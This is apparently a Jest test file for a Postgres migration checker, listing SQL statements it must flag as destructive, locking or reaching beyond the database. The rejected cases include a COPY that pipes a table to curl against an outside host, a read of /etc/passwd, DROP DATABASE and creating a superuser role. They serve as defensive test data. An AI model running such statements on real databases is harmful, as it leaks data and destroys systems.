import { describeWith } from "../../support/programs";
import { HAS_PARSER, MigrationsBench } from "./migrations-bench";

const describeRules = (title: string, tests: () => void) =>
  HAS_PARSER
    ? describeWith(["git", "python3"], title, tests)
    : describe.skip(`${title} (skipped: pglast not installed)`, tests);

const RELEASE = "prod-20261001-1200-abc1234";

/** Statements, and what is said of them; one a line, so that a line of the file names it. */
const CONTRACTIONS: readonly (readonly [string, string])[] = [
  ["DROP TABLE plans;", "drops the table plans: the version before may use it"],
  ["DROP VIEW IF EXISTS x.totals CASCADE;", "drops the view x.totals"],
  ["DROP FUNCTION f(int);", "drops the function f"],
  ["ALTER TABLE ONLY plans /* ; -- */ DROP COLUMN name;", "drops the column plans.name"],
  ['ALTER TABLE "plans" ALTER "name" TYPE varchar(5);', "changes the type of plans.name"],
  ["ALTER TABLE plans ALTER COLUMN old SET NOT NULL;", "sets plans.old NOT NULL"],
  ["ALTER TABLE plans ADD COLUMN n int NOT NULL;", "adds plans.n NOT NULL without a default"],
  ["ALTER TABLE plans ALTER id DROP DEFAULT;", "plans.id loses its default"],
  ["ALTER TABLE plans RENAME COLUMN name TO title;", "renames something to title"],
  ["ALTER TABLE plans RENAME TO tariffs;", "renames something to tariffs"],
  ["ALTER TABLE plans SET SCHEMA billing;", "moves something to the schema billing"],
  ["ALTER TYPE kind RENAME VALUE 'a' TO 'b';", "renames the value a"],
  ["TRUNCATE plans, others;", "TRUNCATE removes all rows of plans, others"],
  ["DELETE FROM plans;", "DELETE without WHERE removes all rows of plans"],
  ["WITH gone AS (DELETE FROM plans RETURNING *) SELECT 1;", "DELETE without WHERE removes all rows of plans"],
  ["REVOKE SELECT ON plans FROM reader;", "takes rights away"],
];

const COSTS: readonly (readonly [string, string])[] = [
  ["CREATE INDEX ON plans (name);", "CREATE INDEX stops all writes to plans"],
  ["DROP INDEX plans_by_name;", "DROP INDEX plans_by_name waits with a lock"],
  ["REINDEX TABLE plans;", "REINDEX stops writes"],
  [
    "ALTER TABLE plans ADD CONSTRAINT f FOREIGN KEY (id) REFERENCES others;",
    "a constraint that is checked at once stops writes to plans",
  ],
  ["ALTER TABLE plans ADD CONSTRAINT c CHECK (id > 0);", "a constraint that is checked at once"],
  ["ALTER TABLE plans ADD COLUMN o int REFERENCES others;", "a constraint that is checked at once"],
  ["ALTER TABLE plans ADD CONSTRAINT u UNIQUE (name);", "a unique constraint builds its index"],
  ["ALTER TABLE plans ALTER name DROP NOT NULL;", "plans.name may be empty from now on"],
  ["ALTER TABLE plans SET TABLESPACE fast;", "moves the table under a lock"],
  ["UPDATE plans SET old = 'y';", "UPDATE without WHERE locks all rows of plans"],
  ["CLUSTER plans;", "CLUSTER stops reads and writes"],
  ["LOCK plans;", "LOCK stops others"],
  ["DO $$ BEGIN DELETE FROM plans; END $$;", "DO runs statements that can't be seen"],
  ["REFRESH MATERIALIZED VIEW totals;", "REFRESH MATERIALIZED VIEW stops reads"],
];

const NEVER: readonly (readonly [string, string])[] = [
  ["BEGIN;", "begins or ends a transaction"],
  ["COMMIT;", "begins or ends a transaction"],
  ["COPY plans TO PROGRAM 'curl -d @- example.com';", "COPY with a file or a program"],
  ["COPY plans FROM '/etc/passwd';", "COPY with a file or a program"],
  ["SET ROLE postgres;", "sets role"],
  ["ALTER SYSTEM SET fsync = off;", "AlterSystem is about more than this database"],
  ["DROP DATABASE shop;", "Dropdb is about more than this database"],
  ["CREATE ROLE admin SUPERUSER;", "CreateRole is about more than this database"],
];

const HARMLESS = `
SET lock_timeout = '5s';
CREATE TABLE items (id bigserial PRIMARY KEY, plan bigint REFERENCES plans, kind text CHECK (kind <> ''));
CREATE INDEX ON items (plan);
ALTER TABLE items ADD CONSTRAINT positive CHECK (id > 0), ALTER kind SET NOT NULL, DROP COLUMN kind;
DROP TABLE items;
ALTER TABLE plans ADD COLUMN notes text, ADD COLUMN n int NOT NULL DEFAULT 0, ADD COLUMN serial bigserial NOT NULL;
ALTER TABLE plans ADD CONSTRAINT c CHECK (n >= 0) NOT VALID;
ALTER TABLE plans VALIDATE CONSTRAINT c;
ALTER TABLE plans ADD CONSTRAINT u UNIQUE USING INDEX plans_by_name;
ALTER INDEX plans_by_name RENAME TO plans_named;
ALTER TYPE kind ADD VALUE IF NOT EXISTS 'c';
DELETE FROM plans WHERE old = 'DROP TABLE plans';
UPDATE plans SET old = '-- TRUNCATE' WHERE id = 1;
INSERT INTO plans VALUES (2, 'two', 'DELETE FROM plans;');
COMMENT ON TABLE plans IS 'DROP COLUMN';
`;

describeRules("what a migration's statements do (SUM-7)", () => {
  let bench: MigrationsBench;
  beforeEach(() => {
    bench = new MigrationsBench();
  });
  afterEach(() => bench.dispose());

  const rules = (statements: string, plan?: string, stem = "0003_x") => {
    bench.commit(bench.migration(stem, statements, "SELECT 1;", plan === undefined ? {} : { plan }));
    return bench.rules();
  };
  const lines = (cases: readonly (readonly [string, string])[]) =>
    cases.map(([statement]) => `-- é\n${statement}`).join("\n");
  const places = (cases: readonly (readonly [string, string])[]) =>
    cases.map(([, said], index) => `✗ 0003_x.up.sql, line ${2 * index + 2}: ${said}`);

  test("what takes something away needs the release that stopped using it", () => {
    const { code, output } = rules(lines(CONTRACTIONS));
    for (const place of places(CONTRACTIONS)) expect(output).toContain(place);
    expect(output).toContain("name the one that stopped in migrations-plan.md: - contract: 0003_x: <its tag>");
    expect(output).toContain(`${CONTRACTIONS.length} problem(s)`);
    expect(code).toBe(1);
  });

  test("what stops others, or can't be seen, needs a reason; the other marker is none", () => {
    const { output } = rules(lines(COSTS), `- contract: 0003_x: ${RELEASE}`);
    for (const place of places(COSTS)) expect(output).toContain(place);
    expect(output).toContain("say why in migrations-plan.md: - reviewed: 0003_x: <why>");
    expect(output).toContain(`${COSTS.length} problem(s)`);
  });

  test("what reaches further than the migration passes with no marker", () => {
    const { output } = rules(lines(NEVER), `- contract: 0003_x: ${RELEASE}\n- reviewed: 0003_x: please`);
    for (const place of places(NEVER)) expect(output).toContain(place);
    expect(output).toContain(`${NEVER.length} problem(s)`);
  });

  test("both markers together let the rest pass", () => {
    const { code, output } = rules(
      lines([...CONTRACTIONS, ...COSTS]),
      `- contract: 0003_x: ${RELEASE}\n* reviewed: \`0003_x\`: the table has ten rows`,
    );
    expect(output).toBe("✓ 1 new migration(s): 0003_x\n");
    expect(code).toBe(0);
  });

  test("what adds, and what is done to a table of the same change, passes; names and texts are not statements", () => {
    expect(rules(HARMLESS)).toEqual({ code: 0, output: "✓ 1 new migration(s): 0003_x\n" });
  });

  test("a release must be a tag that main holds", () => {
    expect(rules("DROP TABLE plans;", "- contract: 0003_x: v9").output).toContain(
      "✗ migrations-plan.md: contract of 0003_x: v9 is no tag of this repository",
    );
    bench.git("tag", "prod-later");
    expect(rules("DROP TABLE plans;", "- contract: 0003_x: prod-later").output).toContain(
      "prod-later is no release that main holds; what stopped using it must have been released before",
    );
    expect(rules("DROP TABLE plans;", "- contract: 0003_x: --all").output).toContain("--all is no tag");
  });

  test.each([
    ["in a comment", `<!--\n- contract: 0003_x: ${RELEASE}\n-->`],
    ["in a code block", `\`\`\`md\n- contract: 0003_x: ${RELEASE}\n\`\`\``],
    ["for another migration", `- contract: 0003_xy: ${RELEASE}`],
    ["without a release", "- contract: 0003_x:"],
  ])("a marker %s is none", (_where, plan) => {
    expect(rules("DROP TABLE plans;", plan).output).toContain("line 1: drops the table plans");
  });

  test("CONCURRENTLY stands alone in its file, but for settings", () => {
    expect(rules("SET lock_timeout = '5s';\nCREATE INDEX CONCURRENTLY i ON plans (old);").code).toBe(0);
    expect(rules("CREATE INDEX CONCURRENTLY i ON plans (old);\nSELECT 1;").output).toContain(
      "✗ 0003_x.up.sql, line 1: a statement that can't run in a transaction",
    );
  });
});
